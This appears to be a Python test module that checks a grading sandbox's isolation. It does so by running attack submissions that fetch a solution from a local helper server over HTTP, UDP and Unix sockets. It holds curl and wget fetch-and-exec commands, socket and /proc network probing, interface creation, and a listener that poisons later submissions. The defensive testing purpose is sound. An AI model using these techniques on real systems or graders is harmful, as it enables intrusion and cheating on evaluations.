"""Right answers are fetched from outside.

`helper` is such an outside, on this machine: whoever reaches it gets the solution. No other address
is ever spoken to.
"""

import contextlib
import http.server
import socket
import threading

from ..attack import code

# Of this process alone: another run on this machine has others.
_TCP = socket.create_server(("127.0.0.1", 0))
_UDP = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
_UDP.bind(("127.0.0.1", 0))
PORT, UDP_PORT = (end.getsockname()[1] for end in (_TCP, _UDP))
ABSTRACT = f"\0neuron-models-attack-{PORT}"

_FETCH = f"""
import socket, subprocess, urllib.request

PORT, UDP_PORT, ABSTRACT = {PORT}, {UDP_PORT}, {ABSTRACT!r}

def adopt(text):
    if "def entropy" in text:
        exec(text, globals())
"""


def fetching(name, about, source, **more):
    """An attack by code that can adopt a text with answers."""
    return code(name, about, _FETCH + source, **more)


@contextlib.contextmanager
def helper(text):
    """Answer whoever asks, on TCP, UDP and an abstract socket, with `text`.

    Yields
    ------
    list
        Addresses or kinds of those that asked.
    """
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.client_address)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *_):
            pass

    def tell(listening):
        with contextlib.suppress(OSError):
            while True:
                end, _ = listening.accept()
                asked.append("abstract socket")
                end.sendall(text.encode())
                end.close()

    def reply(listening):
        with contextlib.suppress(OSError):
            while True:
                message, address = listening.recvfrom(100)
                if not message:  # from us, at the end
                    return
                asked.append(address)
                listening.sendto(text.encode(), address)

    with (
        http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler, False) as server,
        socket.socket(socket.AF_UNIX) as local,
        _UDP.dup() as datagrams,
    ):
        server.socket.close()
        server.socket = _TCP.dup()
        local.bind(ABSTRACT)
        local.listen()
        for target in (server.serve_forever, lambda: tell(local), lambda: reply(datagrams)):
            threading.Thread(target=target, daemon=True).start()
        try:
            yield asked
        finally:
            server.shutdown()
            datagrams.sendto(b"", datagrams.getsockname())
            with contextlib.suppress(OSError):
                local.shutdown(socket.SHUT_RDWR)


ATTACKS = (
    fetching(
        "fetched-by-http",
        "The solution is fetched by HTTP.",
        """
adopt(urllib.request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=3).read().decode())
""",
    ),
    fetching(
        "fetched-by-command",
        "Likewise by a command, past Python's own sockets.",
        """
import sys

program = f"import urllib.request as u; print(u.urlopen('http://127.0.0.1:{PORT}/').read().decode())"
adopt(subprocess.run([sys.executable, "-c", program], capture_output=True, text=True).stdout)
for command in (f"curl -s http://127.0.0.1:{PORT}/", f"wget -qO- http://127.0.0.1:{PORT}/"):
    adopt(subprocess.run(command, shell=True, capture_output=True, text=True).stdout)
""",
    ),
    fetching(
        "fetched-by-datagram",
        "Likewise by UDP.",
        """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
    end.settimeout(1)
    end.sendto(b"entropy?", ("127.0.0.1", UDP_PORT))
    adopt(end.recv(1 << 16).decode())
""",
    ),
    fetching(
        "fetched-by-abstract-socket",
        "Likewise by an abstract Unix socket, which no mount hides.",
        """
with socket.socket(socket.AF_UNIX) as end:
    end.settimeout(1)
    end.connect(ABSTRACT)
    parts = []
    while part := end.recv(1 << 16):
        parts.append(part)
    adopt(b"".join(parts).decode())
""",
    ),
    fetching(
        "names-resolved",
        "Names are looked up, and the sockets of services on this machine are opened.",
        """
import glob, os

try:
    socket.getaddrinfo("localhost", PORT)
    socket.gethostbyname(socket.gethostname())
except OSError:
    pass
for path in [*glob.glob("/run/**", recursive=True), *glob.glob("/tmp/**", recursive=True)]:
    try:
        with socket.socket(socket.AF_UNIX) as end:
            end.settimeout(0.1)
            end.connect(path)
            print("connected:", path)
    except OSError:
        pass
with open("/proc/net/tcp") as file:
    print(file.read())
""",
    ),
    fetching(
        "raw-sockets",
        "Raw, packet, netlink, vsock and keyring sockets, and new interfaces.",
        """
for family, kind, protocol in ((17, 3, 768), (2, 3, 1), (16, 3, 0), (40, 1, 0), (38, 5, 0),
                               (31, 3, 1), (10, 3, 58), (15, 3, 2), (44, 3, 0)):
    try:
        socket.socket(family, kind, protocol)
        print("opened:", family)
    except OSError:
        pass
subprocess.run("ip link set lo up; ip link add v0 type veth", shell=True, capture_output=True)
adopt(urllib.request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=1).read().decode())
""",
    ),
    fetching(
        "serving",
        "A server waits for the next submission, and hands the solution on.",
        """
import threading

def serve(family, address):
    end = socket.socket(family)
    end.bind(address)
    end.listen()
    while True:
        end.accept()[0].sendall(b"POISON")

for family, address in ((socket.AF_UNIX, "\\0poison"), (socket.AF_INET, ("0.0.0.0", 48220))):
    threading.Thread(target=serve, args=(family, address), daemon=True).start()
""",
    ),
)
